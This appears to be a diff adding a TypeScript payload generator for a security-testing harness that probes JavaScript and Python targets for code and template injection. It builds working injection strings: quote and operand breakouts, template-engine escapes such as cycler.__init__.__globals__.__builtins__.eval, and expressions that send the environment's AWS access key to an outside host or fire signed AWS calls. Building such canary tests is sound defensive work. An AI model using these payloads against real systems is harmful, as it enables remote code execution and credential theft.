@@ -1,0 +1,94 @@
+import type { CanaryCall, EffectName, Form, Subject, Target } from '../subject.ts';
+
+/** Expressions of each language that have one effect. They end well where they are refused, so that the next is tried. */
+export interface Snippets {
+  /** An expression. */
+  readonly of: (effect: EffectName) => string;
+  /** The expression where it stands: alone, in quotes, behind an operator. */
+  readonly forms: readonly { readonly says: string; readonly around: (expression: string) => string }[];
+}
+
+const quoted = JSON.stringify;
+
+export function snippetsFor(subject: Subject, target: Target): Snippets {
+  return subject.language === 'javascript' ? javascript(subject, target) : python(subject, target);
+}
+
+/** Who prints the word has put it together: a function that logs its event prints the two halves apart. */
+export const mark = (target: Target): string => `${target.token}:code`;
+
+const javascript = ({ calls }: Subject, target: Target): Snippets => ({
+  of: (effect) => {
+    const call = effect === 'needed' ? calls.needed : effect === 'excess' ? calls.excess : null;
+    if (call)
+      return `fetch(process.env.AWS_ENDPOINT_URL+${quoted(call.path)},{method:${quoted(call.method)},headers:{authorization:"AWS4-HMAC-SHA256 Credential="+process.env.AWS_ACCESS_KEY_ID+${quoted(scope(call, target))},...${quoted(headers(call))}}${call.body === '' ? '' : `,body:${quoted(call.body)}`}}).catch(()=>0)`;
+    if (effect === 'internet')
+      return `fetch(${quoted(`${target.outside}/${target.token}?`)}+process.env.AWS_ACCESS_KEY_ID).catch(()=>0)`;
+    return `process.stdout.write([${quoted(target.token)},"code\\n"].join(":"))`;
+  },
+  forms: [
+    { says: 'as an expression', around: (code) => code },
+    { says: 'in single quotes', around: (code) => `'+(${code})+'` },
+    { says: 'in double quotes', around: (code) => `"+(${code})+"` },
+    { says: 'in a template text', around: (code) => `\${${code}}` },
+    { says: 'behind an operand', around: (code) => `1;${code};//` },
+  ],
+});
+
+const python = ({ calls }: Subject, target: Target): Snippets => ({
+  of: (effect) => {
+    const call = effect === 'needed' ? calls.needed : effect === 'excess' ? calls.excess : null;
+    const request = '__import__("urllib.request").request';
+    const env = '__import__("os").environ';
+    if (call)
+      return `${request}.urlopen(${request}.Request(${env}["AWS_ENDPOINT_URL"]+${quoted(call.path)},${call.body === '' ? 'None' : `${quoted(call.body)}.encode()`},{**${quoted(headers(call))},"authorization":"AWS4-HMAC-SHA256 Credential="+${env}["AWS_ACCESS_KEY_ID"]+${quoted(scope(call, target))}},method=${quoted(call.method)}),timeout=5)`;
+    if (effect === 'internet')
+      return `${request}.urlopen(${quoted(`${target.outside}/${target.token}?`)}+${env}["AWS_ACCESS_KEY_ID"],timeout=5)`;
+    return `__import__("sys").stdout.write(":".join([${quoted(target.token)},"code\\n"]))`;
+  },
+  forms: [
+    { says: 'as an expression', around: (code) => code },
+    { says: 'in single quotes', around: (code) => `'+str(${code})+'` },
+    { says: 'in double quotes', around: (code) => `"+str(${code})+"` },
+    { says: 'behind an operand', around: (code) => `1,${code}#` },
+  ],
+});
+
+/** The token ends the signature: the request is known by it. */
+export const scope = ({ action }: CanaryCall, { token }: Target): string =>
+  `/20260101/eu-west-1/${action.split(':', 1)[0]}/aws4_request, SignedHeaders=host, Signature=${token}`;
+
+export const headers = ({ action, body }: CanaryCall): Readonly<Record<string, string>> =>
+  body === ''
+    ? {}
+    : { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': `Replay.${action.split(':')[1]}` };
+
+/** Text that is evaluated. */
+export function codeForms(subject: Subject, target: Target): readonly Form[] {
+  const { of, forms } = snippetsFor(subject, target);
+  return forms.map(({ says, around }) => ({ says, text: (effect) => around(of(effect)) }));
+}
+
+/** Text that a template engine fills in and runs, by the marks that engines have around code. */
+export function templateForms(subject: Subject, target: Target): readonly Form[] {
+  const { of } = snippetsFor(subject, target);
+  const marks: readonly (readonly [string, (code: string) => string])[] =
+    subject.language === 'javascript'
+      ? [
+          ['between <%= %>', (code) => `<%= ${code} %>`],
+          ['between ${ }', (code) => `\${${code}}`],
+          [
+            'between {{ }}, by a constructor',
+            (code) => `{{range.constructor(${quoted(`return ${code}`)})()}}`,
+          ],
+          ['between #{ }', (code) => `#{${code}}`],
+        ]
+      : [
+          [
+            'between {{ }}, by the globals of a built-in',
+            (code) => `{{ cycler.__init__.__globals__.__builtins__.eval(${quoted(code)}) }}`,
+          ],
+          ['between ${ }', (code) => `\${${code}}`],
+        ];
+  return marks.map(([says, around]) => ({ says, text: (effect) => around(of(effect)) }));
+}
